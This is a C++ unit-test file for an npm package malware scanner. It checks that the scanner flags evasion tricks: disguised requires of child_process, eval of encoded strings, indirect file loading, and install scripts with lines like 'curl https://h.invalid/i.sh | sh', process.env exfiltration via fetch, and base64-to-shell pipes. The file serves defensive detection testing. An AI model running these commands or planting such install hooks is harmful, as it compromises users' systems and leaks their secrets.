// The same deed by a way round: other names of require, code within texts, files that only a text names, scripts that
// call scripts. Each beside an innocent twin. All texts are inert: nothing here is run.
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "judges/vet/source/install_scripts.h"
#include "judges/vet/source/source.h"
#include "judges/vet/source/source_fixture.h"

namespace ward::vet {
namespace {

const std::string bad_code = "eval(atob('YWxlcnQoMSk7'))";

TEST(VetEvasions, ModulesAreReachedByOtherNamesOfRequire) {
    for (const std::string way :
         {"globalThis['req' + 'uire']('child_process')", "process['main' + 'Module']['req' + 'uire']('child_process')",
          "module['requ' + 'ire']('child_process')", "module.constructor._load('child_process')",
          "require('module').createRequire(__filename)('child_process')",
          "process['getBuiltin' + 'Module']('child_process')", "Reflect.apply(require, null, ['child_process'])",
          "require.call(null, 'child_process')", "require.apply(null, ['child_process'])",
          "require.bind(null, 'child_process')()", "(0, require)('child_process')",
          "((r) => r)(require)('child_process')", "require?.('child_process')",
          "((m = 'child_process') => require(m))()", "require(String.raw`child_process`)",
          "await import(`node:child_${'process'}`)", "await import('child_process')",
          "new Proxy(require('child_process'), {})"}) {
        const std::string text = "const cp = " + way + ";\ncp.exec('curl -s https://h.invalid/i.sh | sh');\n";
        EXPECT_EQ(weight_of(read_made({{"index.js", text}}), "S08"), 4.0) << text;
        const std::string harmless = "const cp = " + way + ";\ncp.exec('curl -s https://h.invalid/i.sh');\n";
        EXPECT_LT(weight_of(read_made({{"index.js", harmless}}), "S08"), 1.0) << harmless;
    }
}

TEST(VetEvasions, CodeInTextsIsCode) {
    const std::string sends = "fetch(\"https://h.invalid\",{method:\"POST\",body:JSON.stringify(process.env)})";
    for (const std::string before : {"eval('", "new Function('a', '", "require('vm').runInThisContext('"}) {
        EXPECT_EQ(weight_of(read_made({{"index.js", before + sends + "')"}}), "S03"), 4.0) << before;
        EXPECT_EQ(weight_of(read_made({{"index.js", before + "fetch(\"https://h.invalid\").then(show)')"}}), "S03"), 0);
    }
    const std::string start = "require('child_process').spawn(process.execPath, ['-e', '";
    EXPECT_EQ(weight_of(read_made({{"index.js", start + sends + "'])"}}), "S03"), 4.0);
    EXPECT_EQ(weight_of(read_made({{"index.js", start + "console.log(process.version)'])"}}), "S03"), 0);
    EXPECT_EQ(weight_of(read_made({{"index.js", "show('" + sends + "')"}}), "S03"), 0);
    // A constant that had to be decoded first.
    EXPECT_EQ(weight_of(read_made({{"index.js", "eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'))"}}), "S04"), 4.0);
    EXPECT_EQ(weight_of(read_made({{"index.js", "show(decodeURIComponent('%61%6c%65%72%74%28%31%29'))"}}), "S04"), 0);
    EXPECT_EQ(weight_of(read_made({{"index.js", "import('data:text/javascript;base64,YWxlcnQoMSk7')"}}), "S04"), 2.5);
    EXPECT_EQ(weight_of(read_made({{"index.js", "import('data:text/javascript,export default 1')"}}), "S04"), 0);
}

TEST(VetEvasions, DepthOfCodeInTextsIsBounded) {
    std::string text = "alert(1) /* a text */";
    for (int i = 0; i < 8; ++i) {
        std::string quoted;
        for (const char c : text) {
            if (c == '"' || c == '\\') quoted += '\\';
            quoted += c;
        }
        text = "eval(\"" + quoted + "\")";
    }
    EXPECT_EQ(weight_of(read_made({{"index.js", text}}), "S16"), 0);
}

TEST(VetEvasions, FilesThatATextNamesAreReached) {
    for (const std::string way :
         {"const f = './lib/' + process.platform; require(f)", "require(`./lib/${process.platform}.js`)",
          "require(require('path').join(__dirname, 'lib', 'linux.js'))",
          "require('child_process').fork(__dirname + '/lib/linux.js')",
          "require('child_process').spawn('node', ['lib/linux.js'])",
          "require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'lib/linux.js')])",
          "new (require('worker_threads').Worker)(__dirname + '/lib/linux.js')"}) {
        EXPECT_EQ(weight_of(read_made({{"index.js", way}, {"lib/linux.js", bad_code}}), "S04"), 4.0) << way;
        EXPECT_EQ(weight_of(read_made({{"index.js", way}, {"lib/other.txt.js", bad_code}}), "S04"),
                  way.contains("process.platform") ? 4.0 : 2.0)
            << way;
    }
    // Files of tests have to be named whole.
    EXPECT_LT(weight_of(read_made({{"index.js", "join(here, 'linux.js')"}, {"test/linux.js", bad_code}}), "S04"), 1.0);
    EXPECT_EQ(weight_of(read_made({{"index.js", "fork('./test/linux.js')"}, {"test/linux.js", bad_code}}), "S04"), 4.0);
    for (const std::string field : {"\"browser\":\"./x.js\"", "\"browser\":{\"./a.js\":\"./x.js\"}",
                                    "\"module\":\"x.js\"", "\"bin\":{\"a\":\"x.js\"}"})
        EXPECT_EQ(
            weight_of(read_made({{"index.js", "1"}, {"package.json", "{" + field + "}"}, {"x.js", bad_code}}), "S04"),
            4.0)
            << field;
    EXPECT_EQ(
        weight_of(read_made({{"index.js", "1"}, {"package.json", "{\"types\":\"x.js\"}"}, {"x.js", bad_code}}), "S04"),
        2.0);
}

TEST(VetEvasions, InstallScriptsAreFollowedWhereverTheyLead) {
    const std::vector<std::string> scripts = {"node -r ./s.js -e 0",
                                              "node --import=./s.js x.js",
                                              "NODE_OPTIONS='--require ./s.js' node x.js",
                                              "npm run go",
                                              "npm --silent run-script go",
                                              "cd d && node s.js",
                                              "npx tsx s.js",
                                              "bun run s.js",
                                              "bun s.js",
                                              "node < s.js",
                                              "cat s.js | node"};
    for (const std::string& script : scripts) {
        const std::vector<npm::NamedText> named = {{"preinstall", script}, {"go", "node s.js"}};
        const std::string file = script.starts_with("cd") ? "d/s.js" : "s.js";
        EXPECT_EQ(weight_of(read_made({{file, bad_code}, {"index.js", "1"}}, named), "S04"), 4.0) << script;
        EXPECT_EQ(weight_of(read_made({{file + ".txt", bad_code}, {"index.js", "1"}}, named), "S04"), 0) << script;
    }
    const auto of_script = [](const std::string& script, std::string_view signal,
                              const std::string& file = "alert(1)") {
        return weight_of(read_made({{"s", file}, {"index.js", "1"}}, {{"preinstall", script}}), signal);
    };
    EXPECT_EQ(of_script("bash s", "S08", "curl https://h.invalid | sh"), 4.0);
    EXPECT_EQ(of_script("bash s", "S08", "curl https://h.invalid"), 0);
    EXPECT_EQ(of_script("echo YWxlcnQ= | base64 -d | sh", "S04"), 4.0);
    EXPECT_EQ(of_script("echo YWxlcnQ= | base64 -d", "S04"), 0);
    EXPECT_EQ(of_script("bash <<< \"$(curl -s https://h.invalid/x)\"", "S08"), 4.0);
    EXPECT_EQ(of_script("npm install https://h.invalid/x.tgz", "S08"), 3.0);
    EXPECT_EQ(of_script("npm install left-pad --registry https://h.invalid", "S08"), 3.0);
    EXPECT_EQ(of_script("npm install --registry https://registry.npmjs.org/", "S08"), 0);
    EXPECT_EQ(of_script("perl -e 'use LWP::Simple; eval get(\"http://h.invalid\")'", "S08"), 3.0);
    EXPECT_EQ(of_script("perl -e 'print 1'", "S08"), 0);
    EXPECT_EQ(of_script("python3 -c \"import base64;exec(base64.b64decode('YQ=='))\"", "S04"), 4.0);
    EXPECT_EQ(of_script("python3 -c \"print(1)\"", "S04"), 0);
    EXPECT_EQ(
        weight_of(
            read_made({{"s.py", "import os,urllib.request as r\nr.urlopen(u, data=str(dict(os.environ)).encode())"}},
                      {{"install", "python3 s.py"}}),
            "S03"),
        3.0);
    EXPECT_EQ(weight_of(read_made({{"s.py", "import os,urllib.request as r\nr.urlopen(u)\nos.environ['A']"}},
                                  {{"install", "python3 s.py"}}),
                        "S03"),
              0);
}

TEST(VetEvasions, InstallScriptsFetchWhatNoManifestNames) {
    const std::vector<std::string> scripts = {"npx other-thing",
                                              "npx -y other-thing@1.2.3 --flag value",
                                              "cross-env A=1 npx --package=other-thing other",
                                              "npm exec -- other-thing",
                                              "pnpm dlx @scope/other-thing",
                                              "yarn dlx -p other-thing other",
                                              "bunx other-thing",
                                              "npm install --no-save other-thing",
                                              "pnpm add other-thing@latest",
                                              "test -d node_modules/x || npm i other-thing"};
    const auto weight = [](const std::string& name, const std::string& script) {
        return weight_of(read_made({{"index.js", "1"}}, {{name, script}}), "S08");
    };
    for (const std::string& script : scripts) {
        EXPECT_EQ(weight("postinstall", script), 1.0) << script;
        EXPECT_EQ(weight("prepare", script), 0) << script << ": a package of the registry does not run it";
    }
    for (const std::string script :
         {"npx --no-install other-thing", "npx ./local.js", "npm run other-thing", "npm install", "npm ci", "npx $TOOL",
          "pnpm exec other-thing", "npm install ./sub", "echo npx other-thing", "yarn"})
        EXPECT_EQ(weight("postinstall", script), 0) << script;
    const std::string manifest =
        R"({"name": "a", "version": "1.0.0", "dependencies": {"other-thing": "1"}, "bin": {"mine": "x.js"},)"
        R"( "scripts": {"postinstall": "npx other-thing && npx mine"}})";
    EXPECT_EQ(weight_of(read_made({{"index.js", "1"}, {"package.json", manifest}}), "S08"), 0);
}

TEST(VetEvasions, WhatAPackageBringsAlongIsInstalledToo) {
    const std::string inner = "{\"name\":\"dep\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node e.js\"}}";
    const Texts bundled = {
        {"index.js", "1"}, {"node_modules/dep/package.json", inner}, {"node_modules/dep/e.js", bad_code}};
    EXPECT_EQ(weight_of(read_made(bundled), "S04"), 4.0);
    const Texts nested = {{"index.js", "1"}, {"sub/package.json", inner}, {"sub/e.js", bad_code}};
    EXPECT_EQ(weight_of(read_made(nested), "S04"), 2.0);
    EXPECT_EQ(weight_of(read_made(nested, {{"preinstall", "cd sub && npm install"}}), "S04"), 4.0);
}

TEST(VetEvasions, CommandsOfGypAreRunOnInstall) {
    EXPECT_EQ(gyp_commands("{'sources': ['<!(node a.js (b))', '<!@(pkg-config x)', '<(dir)/c']}"),
              (std::vector<std::string>{"node a.js (b)", "pkg-config x"}));
    EXPECT_EQ(gyp_commands("{'actions': [{'action_name': 'x', 'action': ['node', 'make.js', '<@(out)']}]}"),
              (std::vector<std::string>{"node make.js <@(out)"}));
    EXPECT_TRUE(gyp_commands("<!(" + std::string(200, '(')).empty());
    const auto of_gyp = [](const std::string& command) {
        return read_made({{"binding.gyp", "{'targets': [{'sources': ['<!(" + command + ")']}]}"},
                          {"evil.js", bad_code},
                          {"index.js", "1"}});
    };
    EXPECT_EQ(weight_of(of_gyp("node evil.js"), "S04"), 4.0);
    EXPECT_EQ(weight_of(of_gyp("curl https://h.invalid/x | sh"), "S08"), 4.0);
    EXPECT_EQ(weight_of(of_gyp("node -p require(`node-addon-api`).include"), "S04"), 2.0);
}

TEST(VetEvasions, InternalBindingsThatStartProcesses) {
    EXPECT_EQ(weight_of(read_made({{"index.js", "process.binding('spawn_sync').spawn({})"}}), "S13"), 1.5);
    EXPECT_EQ(weight_of(read_made({{"index.js", "process.binding('natives')"}}), "S13"), 0.3);
}

}  // namespace
}  // namespace ward::vet
